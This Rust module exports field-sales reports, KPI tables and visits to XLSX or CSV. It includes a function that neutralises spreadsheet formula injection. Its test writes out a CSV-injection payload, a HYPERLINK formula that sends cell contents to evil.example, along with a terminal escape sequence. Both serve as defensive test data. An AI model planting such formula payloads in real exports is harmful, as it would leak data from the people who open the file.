//! Exports for the Monday meeting and the regional director: report submissions, the KPI table,
//! the visits and the reports of a period, as XLSX (numbers as numbers, money in yuan with a
//! currency format, dates as dates: opens in Excel and WPS) or CSV (UTF-8 with a byte-order
//! mark, which Excel needs to read Chinese). Rows are written as they are read, a page at a
//! time, so memory does not grow with the number of rows. Headers in zh-CN or en.

mod sheets;

use std::io::Write;
use std::path::Path;

use chrono::{NaiveDate, NaiveDateTime};
use fieldreport_protocol::period::Period;
use fieldreport_protocol::report::Lang;
use fieldreport_protocol::text::neutral;
use rust_xlsxwriter::{Format, Workbook, Worksheet};

use crate::error::{Result, ServerError};
use crate::model::User;
use crate::service::Service;

/// What to export.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum What {
    /// Per member and report due: kind, period, deadline, when submitted, on time or not.
    Submissions,
    /// Per member and the team: each metric's value, target, achievement and status.
    Kpi,
    /// Every visit and call: member, customer, time, kind, note, next step, check-in distance,
    /// photos.
    Visits,
    /// Every report: author, kind, period, status, when submitted, each section's text.
    Reports,
}

impl std::str::FromStr for What {
    type Err = ServerError;
    fn from_str(s: &str) -> Result<Self> {
        match s.trim() {
            "submissions" => Ok(What::Submissions),
            "kpi" => Ok(What::Kpi),
            "visits" => Ok(What::Visits),
            "reports" => Ok(What::Reports),
            other => Err(ServerError::BadRequest(format!(
                "`{other}` is not an export (expected submissions, kpi, visits or reports)"
            ))),
        }
    }
}

impl What {
    pub fn as_str(self) -> &'static str {
        match self {
            What::Submissions => "submissions",
            What::Kpi => "kpi",
            What::Visits => "visits",
            What::Reports => "reports",
        }
    }
}

/// The file format.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileFormat {
    Xlsx,
    Csv,
}

impl std::str::FromStr for FileFormat {
    type Err = ServerError;
    fn from_str(s: &str) -> Result<Self> {
        match s.trim().to_ascii_lowercase().as_str() {
            "xlsx" => Ok(FileFormat::Xlsx),
            "csv" => Ok(FileFormat::Csv),
            other => Err(ServerError::BadRequest(format!("`{other}` is not a format (expected xlsx or csv)"))),
        }
    }
}

impl FileFormat {
    /// The file's media type.
    pub fn mime(self) -> &'static str {
        match self {
            FileFormat::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            FileFormat::Csv => "text/csv; charset=utf-8",
        }
    }
    pub fn extension(self) -> &'static str {
        match self {
            FileFormat::Xlsx => "xlsx",
            FileFormat::Csv => "csv",
        }
    }
}

/// One cell.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    /// Yuan (or the currency's major unit), shown with the currency format.
    Money(f64),
    /// A fraction, shown as a percentage.
    Percent(f64),
    Date(NaiveDate),
    /// Local time in the team's zone.
    Time(NaiveDateTime),
    Empty,
}

/// Where rows go: an XLSX sheet or CSV.
pub trait Sink {
    fn header(&mut self, columns: &[&str]) -> Result<()>;
    fn row(&mut self, cells: &[Cell]) -> Result<()>;
}

fn failed(e: impl std::fmt::Display) -> ServerError {
    ServerError::Internal(format!("the export could not be written: {e}"))
}

/// CSV rows into `out`, after a UTF-8 byte-order mark.
pub struct CsvSink<W: Write> {
    out: csv::Writer<W>,
}

impl<W: Write> CsvSink<W> {
    pub fn new(mut out: W) -> Result<Self> {
        out.write_all("\u{feff}".as_bytes()).map_err(failed)?;
        Ok(CsvSink { out: csv::Writer::from_writer(out) })
    }

    pub fn finish(mut self) -> Result<()> {
        self.out.flush().map_err(failed)
    }
}

impl<W: Write> Sink for CsvSink<W> {
    fn header(&mut self, columns: &[&str]) -> Result<()> {
        self.out.write_record(columns).map_err(failed)
    }

    fn row(&mut self, cells: &[Cell]) -> Result<()> {
        let text = |c: &Cell| match c {
            Cell::Text(s) => defused(s),
            Cell::Number(n) => format!("{n}"),
            Cell::Money(n) => format!("{n:.2}"),
            Cell::Percent(n) => format!("{:.1}%", n * 100.0),
            Cell::Date(d) => d.to_string(),
            Cell::Time(t) => t.format("%Y-%m-%d %H:%M").to_string(),
            Cell::Empty => String::new(),
        };
        self.out.write_record(cells.iter().map(text)).map_err(failed)
    }
}

/// Text as a spreadsheet shows it, never as a formula: a note a device wrote that starts with
/// `=`, `+`, `-`, `@` or a tab would be run by Excel or WPS when the manager opens the CSV (a
/// link that sends the sheet away, say), so it gets a leading `'` (OWASP's advice). XLSX cells
/// are typed as text and need nothing.
fn defused(s: &str) -> String {
    let s = neutral(s);
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.into_owned()
    }
}

/// An XLSX workbook of one sheet, its rows kept in a temporary file as they are written.
pub struct XlsxSink {
    book: Workbook,
    row: u32,
    bold: Format,
    money: Format,
    percent: Format,
    date: Format,
    time: Format,
    /// Each column's width so far: its widest cell as shown.
    widths: Vec<f64>,
}

/// The width a cell needs in Excel's units (a CJK character counts two), within bounds.
fn shown_width(c: &Cell) -> f64 {
    let text_width = |s: &str| s.chars().map(|ch| if ch.is_ascii() { 1.0 } else { 2.0 }).sum::<f64>();
    let w = match c {
        Cell::Text(s) => text_width(s),
        Cell::Number(n) => format!("{n}").len() as f64,
        // ¥ and thousands separators: digits × 4/3 plus the symbol and the cents.
        Cell::Money(n) => (format!("{:.0}", n.abs()).len() as f64 * 4.0 / 3.0).ceil() + 4.0,
        Cell::Percent(_) => 7.0,
        Cell::Date(_) => 10.0,
        Cell::Time(_) => 16.0,
        Cell::Empty => 0.0,
    };
    (w + 2.0).min(60.0)
}

impl XlsxSink {
    pub fn new(sheet: &str) -> Result<Self> {
        let mut book = Workbook::new();
        book.add_worksheet_with_constant_memory().map_err(failed)?.set_name(sheet).map_err(failed)?;
        Ok(XlsxSink {
            book,
            row: 0,
            bold: Format::new().set_bold(),
            money: Format::new().set_num_format("¥#,##0.00"),
            percent: Format::new().set_num_format("0.0%"),
            date: Format::new().set_num_format("yyyy-mm-dd"),
            time: Format::new().set_num_format("yyyy-mm-dd hh:mm"),
            widths: Vec::new(),
        })
    }

    fn sheet(&mut self) -> Result<&mut Worksheet> {
        self.book.worksheet_from_index(0).map_err(failed)
    }

    /// Writes the workbook to `path`.
    pub fn save(mut self, path: &Path) -> Result<()> {
        self.book.save(path).map_err(failed)
    }

    /// The workbook's bytes (for a download).
    pub fn into_bytes(mut self) -> Result<Vec<u8>> {
        self.book.save_to_buffer().map_err(failed)
    }
}

impl Sink for XlsxSink {
    fn header(&mut self, columns: &[&str]) -> Result<()> {
        let bold = self.bold.clone();
        let sheet = self.sheet()?;
        let mut widths = Vec::with_capacity(columns.len());
        for (i, c) in columns.iter().enumerate() {
            sheet.write_string_with_format(0, i as u16, *c, &bold).map_err(failed)?;
            let w = shown_width(&Cell::Text(c.to_string())).max(8.0);
            sheet.set_column_width(i as u16, w).map_err(failed)?;
            widths.push(w);
        }
        sheet.set_freeze_panes(1, 0).map_err(failed)?;
        self.row = 1;
        self.widths = widths;
        Ok(())
    }

    fn row(&mut self, cells: &[Cell]) -> Result<()> {
        let (money, percent, date, time) =
            (self.money.clone(), self.percent.clone(), self.date.clone(), self.time.clone());
        let r = self.row;
        // Columns grow to their widest cell (the columns are written when the book is saved,
        // so widening after rows is fine even with constant memory).
        let mut wider = Vec::new();
        for (i, c) in cells.iter().enumerate() {
            let w = shown_width(c);
            if self.widths.len() <= i {
                self.widths.resize(i + 1, 8.0);
            }
            if w > self.widths[i] {
                self.widths[i] = w;
                wider.push((i as u16, w));
            }
        }
        let sheet = self.sheet()?;
        for (col, w) in wider {
            sheet.set_column_width(col, w).map_err(failed)?;
        }
        for (i, c) in cells.iter().enumerate() {
            let col = i as u16;
            match c {
                Cell::Text(s) => sheet.write_string(r, col, neutral(s)).map(|_| ()),
                Cell::Number(n) => sheet.write_number(r, col, *n).map(|_| ()),
                Cell::Money(n) => sheet.write_number_with_format(r, col, *n, &money).map(|_| ()),
                Cell::Percent(n) => sheet.write_number_with_format(r, col, *n, &percent).map(|_| ()),
                Cell::Date(d) => sheet.write_datetime_with_format(r, col, d, &date).map(|_| ()),
                Cell::Time(t) => sheet.write_datetime_with_format(r, col, t, &time).map(|_| ()),
                Cell::Empty => Ok(()),
            }
            .map_err(failed)?;
        }
        self.row += 1;
        Ok(())
    }
}

/// An export's request.
#[derive(Debug, Clone)]
pub struct Request {
    pub what: What,
    pub period: Period,
    /// One member's rows only (a user id).
    pub user: Option<String>,
    /// A department's members only (name or id; for its heads, those above and admins).
    pub dept: Option<String>,
    pub lang: Lang,
}

impl Service {
    /// Writes the export `req` asks for into `sink`, with what `viewer` may see (an admin the
    /// whole team, a manager their direct reports, a rep themself; `None`: the server's own
    /// administration). Returns the number of rows.
    pub fn export(&self, viewer: Option<&User>, req: &Request, sink: &mut dyn Sink) -> Result<usize> {
        sheets::write(self, viewer, req, sink)
    }
}

/// The file name of an export (`visits-2026-11-01-2026-11-30.xlsx`).
pub fn file_name(what: What, first: NaiveDate, last: NaiveDate, format: FileFormat) -> String {
    format!("{}-{first}-{last}.{}", what.as_str(), format.extension())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn columns_are_as_wide_as_what_they_show() {
        let day = chrono::NaiveDate::from_ymd_opt(2026, 11, 29).unwrap();
        let time = Cell::Time(day.and_hms_opt(20, 0, 0).unwrap());
        assert!(shown_width(&time) >= 16.0, "a date and time never shows ########");
        assert!(shown_width(&Cell::Date(day)) >= 10.0);
        assert_eq!(shown_width(&Cell::Text("张伟".into())), shown_width(&Cell::Text("abcd".into())), "CJK is double");
        assert!(shown_width(&Cell::Money(12_345_678.0)) >= "¥12,345,678.00".len() as f64);
        assert_eq!(shown_width(&Cell::Text("很".repeat(100))), 60.0, "bounded");
    }

    #[test]
    fn csv_text_from_devices_is_never_a_formula() {
        let mut out = Vec::new();
        let mut sink = CsvSink::new(&mut out).unwrap();
        let cells = [
            Cell::Text("=HYPERLINK(\"http://evil.example/?\"&A1,\"看\")".into()),
            Cell::Text("@SUM(1+1)".into()),
            Cell::Text("-2+3".into()),
            Cell::Text("拜访上海华为".into()),
            Cell::Text("张伟\u{1b}[2J".into()),
            Cell::Number(-5.0),
        ];
        sink.row(&cells).unwrap();
        sink.finish().unwrap();
        let text = String::from_utf8(out).unwrap();
        let mut read =
            csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let row: Vec<String> = read.records().next().unwrap().unwrap().iter().map(String::from).collect();
        assert_eq!(
            row,
            [
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"看\")",
                "'@SUM(1+1)",
                "'-2+3",
                "拜访上海华为",
                "张伟␛[2J",
                "-5"
            ]
        );
    }
}
